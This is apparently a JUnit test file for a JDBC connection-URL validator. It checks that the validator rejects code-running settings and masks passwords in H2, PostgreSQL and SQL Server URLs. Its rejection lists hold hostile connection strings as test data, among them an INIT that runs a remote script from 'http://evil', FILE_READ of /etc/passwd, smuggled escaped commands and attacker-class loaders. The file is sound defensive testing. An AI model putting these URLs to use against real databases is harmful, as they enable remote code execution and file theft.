package org.estreamer.plugin.jdbc.dialects;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Properties;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ConnectionUrlTest {
    private static IllegalArgumentException refusal(String url) {
        return assertThrows(IllegalArgumentException.class, () -> new ConnectionUrl("jdbc~x", url), url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;init=CREATE ALIAS X AS 'int x() { return 1; }'",
                "jdbc:h2:mem:x; Init =SELECT 1",
                "jdbc:h2:mem:x;\u0131n\u0131t=SELECT 1",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;INIT=SELECT 1",
                "jdbc:h2:mem:x;MODE=Oracle\\;RUNSCRIPT FROM 'x'",
                "jdbc:h2:mem:x;LOCK_TIMEOUT=1\\;CALL X()",
                "jdbc:h2:mem:x;CACHE_SIZE=(SELECT FILE_READ('/etc/passwd'))",
                "jdbc:h2:mem:x;PASSWORD=a\\;INIT=SELECT 1",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Listener'",
                "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='evil.Serializer'",
                "jdbc:h2:mem:x;AUTHREALM=evil",
                "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
                "jdbc:h2:tcp://db/x;INIT=SELECT 1",
                "jdbc:h2:mem:x;%49NIT=SELECT 1",
                "jdbc:postgresql://db/x?socketFactory=evil.Factory&socketFactoryArg=x",
                "jdbc:postgresql://db/x?ssl=true&SSLFACTORY=evil.Factory",
                "jdbc:postgresql://db/x?sslhostnameverifier=evil.Verifier",
                "jdbc:postgresql://db/x?sslpasswordcallback=evil.Callback",
                "jdbc:postgresql://db/x?authenticationPluginClassName=evil.Plugin",
                "jdbc:postgresql://db/x?xmlFactoryFactory=evil.Factory",
                "jdbc:postgresql://db/x?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
                "jdbc:postgresql://db/x?socket%46actory=evil.Factory",
                "jdbc:postgresql://db/x?user=u?&socketFactory=evil.Factory",
                "jdbc:postgresql://db/x?service=x",
                "jdbc:sqlserver://db;trustManagerClass=evil.Manager",
                "jdbc:sqlserver://db;encrypt=true; SocketFactoryClass =evil.Factory",
                "jdbc:sqlserver://db;accessTokenCallbackClass=evil.Callback",
                "jdbc:sqlserver://db;password={a};trustManagerClass=evil.Manager",
                "jdbc:sqlserver://db;password={a;socketFactoryClass=evil.Factory}",
            })
    void shouldRefuseWhatRunsCode(String url) {
        assertTrue(refusal(url).getMessage().startsWith("jdbc~x: url has a setting '"), url);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:h2:file:/var/lib/x;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0 | H2",
                "jdbc:h2:C:\\data\\x;CIPHER=AES;MODE=PostgreSQL | H2",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1; | H2",
                "jdbc:postgresql://a,b:5433/x?user=u&password=p%26q&sslmode=verify-full&currentSchema=s | POSTGRESQL",
                "jdbc:postgresql://db/x?ApplicationName=estreamer&options=-c%20statement_timeout=1000 | POSTGRESQL",
                "jdbc:sqlserver://db\\instance:1433;databaseName=x;encrypt=true;trustServerCertificate=true | SQL_SERVER",
                "jdbc:sqlserver://db;database=x;user=u;password={p=q} | SQL_SERVER"
            })
    void shouldTakeWhatIsHarmless(String url, Dialect dialect) {
        assertEquals(dialect, new ConnectionUrl("jdbc~x", url).dialect());
    }

    @Test
    void shouldShowNoPartOfAPasswordThatLooksLikeASetting() {
        assertFalse(refusal("jdbc:sqlserver://db;password={a;hunter 2}")
                .getMessage()
                .contains("hunter"));
    }

    /** The driver would run it: what is refused here is no mere suspicion. */
    @ParameterizedTest
    @ValueSource(strings = {"INIT=CREATE TABLE PROOF(X INT)", "LOCK_TIMEOUT=1\\;CREATE TABLE PROOF(X INT)"})
    void shouldRefuseWhatTheDriverWouldRun(String setting) throws SQLException {
        String url = "jdbc:h2:mem:" + UUID.randomUUID() + ";" + setting;
        refusal(url);
        try (Connection connection = new org.h2.Driver().connect(url, new Properties());
                Statement statement = connection.createStatement()) {
            assertTrue(statement.executeQuery("SELECT COUNT(*) FROM PROOF").next());
        }
        org.h2.Driver.unload();
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://u:p@db/x?password=p, jdbc:postgresql://db/x, true",
        "jdbc:postgresql://db/x?sslpassword=p, jdbc:postgresql://db/x, true",
        "jdbc:postgresql://db/x?password=, jdbc:postgresql://db/x, false",
        "jdbc:sqlserver://db;password=p, jdbc:sqlserver://db, true",
        "jdbc:sqlserver://db;trustStorePassword=p, jdbc:sqlserver://db, true",
        "jdbc:h2:file:/x;CIPHER=AES, jdbc:h2:file:/x, false",
        "jdbc:h2:file:/x;PASSWORD=p q, jdbc:h2:file:/x, true"
    })
    void shouldShowNoPassword(String text, String shown, boolean hasPassword) {
        ConnectionUrl url = new ConnectionUrl("jdbc~x", text);
        assertEquals(shown, url.toString());
        assertEquals(hasPassword, url.hasPassword());
    }

    @Test
    void shouldKnowWhatIsSetWhateverItsCase() {
        ConnectionUrl url = new ConnectionUrl("jdbc~x", "jdbc:postgresql://db/x?SocketTimeout=9");
        assertTrue(url.sets("socketTimeout"));
        assertFalse(url.sets("connectTimeout"));
    }
}
